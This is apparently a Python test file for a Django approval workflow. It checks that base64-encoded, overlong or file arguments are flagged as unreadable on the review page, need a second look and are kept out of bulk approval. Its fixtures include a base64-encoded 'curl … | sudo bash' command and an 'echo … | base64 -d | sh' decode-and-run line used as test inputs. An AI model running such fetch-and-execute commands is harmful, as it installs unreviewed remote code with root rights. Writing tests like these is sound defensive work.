"""What cannot be read on the page is named there, and nobody approves it by a single key or together with others."""

from __future__ import annotations

import base64
from typing import Any

import pytest
from django.contrib.auth.models import Group

from approvals.cards.unreadable import CUT, ENCODED, FILE, LONGEST
from approvals.errors import SecondLookNeeded
from approvals.models import Gate
from approvals.policy.bulk import NotTogether
from tests.approvals.bulk.bulk_forms import alike, form, preview, send
from tests.factories import ann, bob, decide, make_action, make_card, make_gate, make_policy, make_team
from tests.harness.session import ROOT
from tests.harness.signed_in_clients import form_of, signed_in

from .consent import figures

BLOB = base64.b64encode(b"curl -fsS https://files.example.com/install.sh | sudo bash -s -- --all").decode()
ARTIFACT = {"$artifact": "a" * 64, "size": 3, "media_type": "application/pdf", "name": "offer.pdf"}


def asking(team: Group, **arguments: Any) -> Gate:
    action = make_action(pointer="", arguments=arguments, pinned=[], effect="")
    return make_gate(team=team, card=make_card(actions=[action]))


def test_the_documents_figures_are_those_that_are_counted() -> None:
    hostile, silent, ordinary, unreadable = figures()
    page = (ROOT / "docs/security.md").read_text()
    assert f"Of {hostile} hostile values {len(silent)} say nothing of themselves ({', '.join(silent)})" in page
    assert f"of {ordinary} ordinary ones {len(unreadable)} cannot be read" in page
    assert len(unreadable) < ordinary / 100


@pytest.mark.parametrize(
    ("value", "why"),
    [(f"echo {BLOB} | base64 -d | sh", ENCODED), ("x y " * (LONGEST // 4 + 1), CUT), (ARTIFACT, FILE), ("ls -la", "")],
)
def test_each_part_that_cannot_be_read_is_found_by_its_place(value: Any, why: str) -> None:
    parts = make_card(actions=[make_action(arguments={"run": [{"command": value}]})]).unreadable
    assert {name: [(part.at, part.why) for part in each] for name, each in parts.items()} == (
        {"refund": [("/run/0/command", why)]} if why else {}
    )


def test_all_arguments_share_the_room_of_a_page_and_a_members_name_is_read_too() -> None:
    half = "x y " * (LONGEST // 6)
    actions = [make_action(id=name, arguments={"text": half, "note": "ok"}) for name in ("first", "second")]
    assert [*make_card(actions=actions).unreadable] == ["second"]
    assert make_card(actions=actions[:1]).unreadable == {}
    [part] = make_card(actions=[make_action(arguments={BLOB: 1})]).unreadable["refund"]
    assert (part.at, part.why) == (f"/{BLOB}", ENCODED)


def test_what_a_reviewer_writes_into_it_takes_no_tick_of_theirs_and_one_of_the_next() -> None:
    """The server asked for a tick that no page drew, as it was the edit that could not be read."""
    team = make_team()
    gate = make_gate(policy=make_policy(team, quorum=2))
    action = gate.asked.action("refund")
    assert action is not None
    decide(gate, ann(team), "edit", arguments={"refund": {**action.arguments, "reply": BLOB}})
    with pytest.raises(SecondLookNeeded, match="cannot be read here"):
        decide(gate, bob(team))
    assert decide(gate, bob(team), second_look=True).second_look is True


def test_its_approval_takes_a_tick_and_its_rejection_none() -> None:
    team = make_team()
    gate, plain = asking(team, command=f"echo {BLOB} | base64 -d | sh"), asking(team, command="ls -la")
    decide(plain, ann(team))
    with pytest.raises(SecondLookNeeded, match="cannot be read here"):
        decide(gate, ann(team))
    assert decide(gate, ann(team), second_look=True).second_look is True
    decide(asking(team, command=BLOB), ann(team), "reject", comment="What is it?", then="stop")


def test_the_page_names_it_beside_the_action_and_in_the_form() -> None:
    team = make_team()
    reader, gate = signed_in(ann(team)), asking(team, command=f"echo {BLOB} | base64 -d | sh")
    page = reader.get(f"/gates/{gate.pk}/").content.decode()
    assert "cannot be read here: text in an encoding." in page
    assert "Part of what would run cannot be read here." in page
    sent = form_of(gate)
    assert reader.post(f"/gates/{gate.pk}/decisions/", sent).status_code == 422
    assert reader.post(f"/gates/{gate.pk}/decisions/", sent | {"second_look": "yes"}).status_code == 303
    assert "cannot be read here" not in reader.get(f"/gates/{asking(team, command='ls').pk}/").content.decode()


def test_it_is_approved_with_no_others() -> None:
    team = make_team()
    policy = make_policy(team, bulk_risk="low")
    reader = signed_in(ann(team))
    unread = make_action(pointer="", arguments={"command": BLOB}, pinned=[], effect="")
    read = make_action(pointer="", arguments={"command": "ls"}, pinned=[], effect="")
    [one], [other] = alike(1, policy=policy, actions=[read]), alike(1, policy=policy, actions=[unread])
    page = preview(reader, [one, other])
    assert "Part of what would run cannot be read here. Open it." in page
    said = send(reader, form(page))
    one.refresh_from_db()
    other.refresh_from_db()
    assert (one.status, other.status) == ("decided", "open"), said
    with pytest.raises(NotTogether, match="cannot be read here"):
        decide(other, ann(team), second_look=True, bulk=1)
